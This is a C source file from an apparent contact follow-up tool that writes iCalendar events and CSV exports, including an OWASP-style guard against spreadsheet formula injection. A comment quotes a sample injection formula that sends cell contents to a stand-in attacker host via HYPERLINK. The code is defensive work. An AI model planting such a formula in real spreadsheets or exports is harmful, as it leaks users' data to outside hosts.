/* SPDX-License-Identifier: ISC */
/*
 * Copyright (c) 2026 The followup authors
 *
 * The export formats: an iCalendar (RFC 5545) of follow-ups and
 * CSV (RFC 4180) tables of contacts, interactions or follow-ups, written
 * from the protocol's own objects (objects.c) so every format shows the
 * same fields.  Pure functions, a record at a time: a document is its
 * head, one piece per record and its tail, so an export of any size is
 * written as the reader takes it (op-data.c).
 */

#include <config.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "followupd.h"
#include "followup/timefmt.h"

/* A document being written; aborts on OOM like xmalloc. */
static FILE *
export_open(char **buf, size_t *len)
{
	FILE	*f;

	if ((f = open_memstream(buf, len)) == NULL)
		fatal("export: open_memstream");
	return f;
}

/* Finish a document. Caller frees the result. */
static char *
export_close(FILE *f, char **buf)
{
	if (fclose(f) != 0)
		fatal("export: fclose");
	return *buf;
}

static const char *
export_str(json_t *obj, const char *key)
{
	return json_string_value(json_object_get(obj, key));
}

/* Read an RFC 3339 UTC time as the objects carry it; 0 if it is not one. */
static time_t
export_time(json_t *obj, const char *key)
{
	return fu_time_parse(export_str(obj, key));
}

/*
 * --- iCalendar ---
 *
 * Written with libical (ical.c), the same VEVENT an invitation carries,
 * one event at a time: each is built, written out as text and freed, so
 * the export never holds more than one.  It costs 1.5 times the CPU of
 * the iCalendar this file once wrote by hand (tests/bench/export-bench,
 * 100,000 follow-ups: 31 against 21 us each, JSON 23), which is not
 * worth a second writer that could drift from the invitation's.
 */

/* "Call back Ada Lovelace (Acme)". Caller frees. */
static char *
export_ics_summary(json_t *f, json_t *c)
{
	const char	*kind = export_str(f, "kind"), *company;
	const char	*name = export_str(f, "contact_name");
	char		*s;

	company = c != NULL ? export_str(c, "company") : NULL;
	if (name == NULL)
		name = "?";
	xasprintf(&s, "%s %s%s%s%s", kind != NULL &&
	    strcmp(kind, "callback") == 0 ? "Call back" : "Follow up with",
	    name, company != NULL ? " (" : "", company != NULL ? company : "",
	    company != NULL ? ")" : "");
	return s;
}

/* The reason, then how to reach the contact and where they stand. */
static char *
export_ics_description(json_t *f, json_t *c, int team)
{
	static const struct {
		const char	*label;
		const char	*key;
	} lines[] = {
		{ "Phone", "phone" }, { "Email", "email" },
		{ "Stage", "stage" }, { "Time zone", "tz" },
	};
	const char	*v;
	char		*buf = NULL;
	size_t		 len = 0, i;
	FILE		*out;
	int		 first = 1;

	out = export_open(&buf, &len);
	if ((v = export_str(f, "reason")) != NULL) {
		fputs(v, out);
		first = 0;
	}
	for (i = 0; c != NULL && i < sizeof lines / sizeof lines[0]; i++) {
		if ((v = export_str(c, lines[i].key)) == NULL)
			continue;
		fprintf(out, "%s%s: %s", first ? "" : "\n", lines[i].label, v);
		first = 0;
	}
	if (team && (v = export_str(f, "owner")) != NULL)
		fprintf(out, "%sRep: %s", first ? "" : "\n", v);
	return export_close(out, &buf);
}

/*
 * One VEVENT for follow-up f, whose contact is c (NULL if unknown): a
 * pending one is CONFIRMED with an alarm; a closed one (done or
 * cancelled) is CANCELLED, without an alarm, one SEQUENCE past the
 * pending one's, so a calendar that imported the pending event replaces
 * it.  UIDs are followup-ID-DBID@followupd (ical_uid), dbid being the
 * database's identity (store_id), so they stay the same for the
 * database's life and differ between databases.  SEQUENCE is the
 * follow-up's revision, which grows when it is moved, plus one once it is
 * closed, as a confirmation's invitation gives it.  team adds the
 * follow-up's rep; now is the DTSTAMP.
 */
void
export_ics_event(FILE *out, json_t *f, json_t *c, const char *dbid, int team,
    time_t now)
{
	struct ical_event	 e;
	char			*summary, *desc, *uid, *text;
	time_t			 due = export_time(f, "due_at");
	time_t			 remind = export_time(f, "remind_at");
	int			 closed = strcmp(export_str(f, "status"),
				    "pending") != 0;

	summary = export_ics_summary(f, c);
	desc = export_ics_description(f, c, team);
	uid = ical_uid(json_integer_value(json_object_get(f, "id")), dbid);

	memset(&e, 0, sizeof e);
	e.uid = uid;
	e.sequence = (int)json_integer_value(json_object_get(f, "revision")) +
	    closed;
	e.start = due;
	e.summary = summary;
	e.description = *desc != '\0' ? desc : NULL;
	e.category = strcmp(export_str(f, "kind"), "callback") == 0 ?
	    "Callback" : "Follow-up";
	e.cancelled = closed;
	/* At the rep's lead time; at the time itself if none is left. */
	e.alarm = remind != 0 && remind < due ? (long)(due - remind) : 0;
	e.created = export_time(f, "created_at");
	e.modified = export_time(f, "updated_at");
	e.now = now;
	text = ical_event(&e);
	fputs(text, out);
	free(text);
	free(uid);
	free(summary);
	free(desc);
}

/*
 * The head of an iCalendar (RFC 5545) titled name; one export_ics_event
 * per follow-up and export_ics_end follow.
 */
void
export_ics_begin(FILE *out, const char *name)
{
	char	*head;

	head = ical_calendar_begin(name);
	fputs(head, out);
	free(head);
}

/* The tail of an iCalendar. */
void
export_ics_end(FILE *out)
{
	fputs(ical_calendar_end(), out);
}

/* --- CSV --- */

/* A column: its header, the object's key, and where the key is read. */
enum export_from {
	FROM_ROW,		/* the row's own object */
	FROM_CONTACT		/* the row's contact (by contact_id) */
};
struct export_column {
	const char	*header;
	const char	*key;
	enum export_from from;
};

/*
 * The headers are the ones spreadsheets and CRMs know, so an exported
 * contacts file imports back (followup import maps Name, Company, Phone,
 * Email, Time Zone, Stage, Notes and Archived; it ignores the rest).
 */
static const struct export_column export_contact_columns[] = {
	{ "ID", "id", FROM_ROW }, { "Name", "name", FROM_ROW },
	{ "Company", "company", FROM_ROW }, { "Phone", "phone", FROM_ROW },
	{ "Email", "email", FROM_ROW }, { "Time Zone", "tz", FROM_ROW },
	{ "Stage", "stage", FROM_ROW }, { "Notes", "notes", FROM_ROW },
	{ "Owner", "owner", FROM_ROW }, { "Archived", "archived", FROM_ROW },
	{ "Last Activity", "last_activity_at", FROM_ROW },
	{ "Created", "created_at", FROM_ROW },
	{ "Updated", "updated_at", FROM_ROW }, { NULL, NULL, FROM_ROW }
};
static const struct export_column export_interaction_columns[] = {
	{ "ID", "id", FROM_ROW }, { "Contact ID", "contact_id", FROM_ROW },
	{ "Contact", "name", FROM_CONTACT },
	{ "Company", "company", FROM_CONTACT }, { "Kind", "kind", FROM_ROW },
	{ "Outcome", "outcome", FROM_ROW }, { "Note", "note", FROM_ROW },
	{ "At", "at", FROM_ROW }, { "Owner", "owner", FROM_ROW },
	{ "Created", "created_at", FROM_ROW }, { NULL, NULL, FROM_ROW }
};
static const struct export_column export_followup_columns[] = {
	{ "ID", "id", FROM_ROW }, { "Contact ID", "contact_id", FROM_ROW },
	{ "Contact", "contact_name", FROM_ROW },
	{ "Company", "company", FROM_CONTACT }, { "Kind", "kind", FROM_ROW },
	{ "Status", "status", FROM_ROW }, { "Due", "due_at", FROM_ROW },
	{ "Reason", "reason", FROM_ROW }, { "Remind At", "remind_at", FROM_ROW },
	{ "Note", "note", FROM_ROW }, { "Owner", "owner", FROM_ROW },
	{ "Created", "created_at", FROM_ROW },
	{ "Done", "done_at", FROM_ROW }, { NULL, NULL, FROM_ROW }
};

/*
 * Would a spreadsheet run text s as a formula?  OWASP's rule: it begins
 * with = + - @ tab or CR.  Text that begins with quotes and then one of
 * those counts too, so the guard quote put before both is taken off
 * exactly once by followup import (import-csv.c) and the file reads back
 * as it was written.
 */
static int
export_csv_formula(const char *s)
{
	while (*s == '\'')
		s++;
	return *s != '\0' && strchr("=+-@\t\r", *s) != NULL;
}

/*
 * Write one field, quoted when RFC 4180 asks (or it has edge blanks), and
 * with a quote before text a spreadsheet would otherwise run as a formula
 * (=HYPERLINK("http://evil.example/?x="&A1) in a contact's notes), which
 * shows it as the text it is.
 */
static void
export_csv_field(FILE *out, const char *s)
{
	size_t	len = strlen(s);
	int	guard = export_csv_formula(s);

	if (strpbrk(s, ",\"\r\n") == NULL && (len == 0 ||
	    (s[0] != ' ' && s[len - 1] != ' '))) {
		if (guard)
			fputc('\'', out);
		fputs(s, out);
		return;
	}
	fputc('"', out);
	if (guard)
		fputc('\'', out);
	for (; *s != '\0'; s++) {
		if (*s == '"')
			fputc('"', out);
		fputc(*s, out);
	}
	fputc('"', out);
}

/* Write a JSON scalar as a field: text as is, null empty, booleans yes/no. */
static void
export_csv_value(FILE *out, json_t *v)
{
	char	num[32];

	if (json_is_string(v))
		export_csv_field(out, json_string_value(v));
	else if (json_is_integer(v)) {
		snprintf(num, sizeof num, "%lld",
		    (long long)json_integer_value(v));
		fputs(num, out);
	} else if (json_is_boolean(v))
		fputs(json_is_true(v) ? "yes" : "no", out);
}

/* The columns of CSV table what, or NULL if there is no such table. */
static const struct export_column *
export_csv_columns(const char *what)
{
	if (strcmp(what, "contacts") == 0)
		return export_contact_columns;
	if (strcmp(what, "interactions") == 0)
		return export_interaction_columns;
	if (strcmp(what, "followups") == 0)
		return export_followup_columns;
	return NULL;
}

/*
 * The head of a CSV (RFC 4180: CRLF, a header row, fields quoted when
 * needed, quotes doubled) of table what ("contacts", "interactions" or
 * "followups"), UTF-8, with a byte order mark if bom is set (so a
 * spreadsheet that guesses the encoding reads it as UTF-8).  Return -1
 * for an unknown table.
 */
int
export_csv_begin(FILE *out, const char *what, int bom)
{
	const struct export_column	*cols, *col;

	if ((cols = export_csv_columns(what)) == NULL)
		return -1;
	if (bom)
		fputs("\xef\xbb\xbf", out);
	for (col = cols; col->header != NULL; col++) {
		if (col != cols)
			fputc(',', out);
		export_csv_field(out, col->header);
	}
	fputs("\r\n", out);
	return 0;
}

/*
 * One CSV row of table what for record row, whose contact is c (NULL if
 * unknown or not needed).  A text that begins like a formula is written
 * after a quote (export_csv_field).  Times are RFC 3339 in UTC, as in the
 * protocol.
 */
void
export_csv_row(FILE *out, const char *what, json_t *row, json_t *c)
{
	const struct export_column	*cols, *col;

	if ((cols = export_csv_columns(what)) == NULL)
		return;
	for (col = cols; col->header != NULL; col++) {
		if (col != cols)
			fputc(',', out);
		export_csv_value(out, json_object_get(col->from == FROM_ROW ?
		    row : c, col->key));
	}
	fputs("\r\n", out);
}
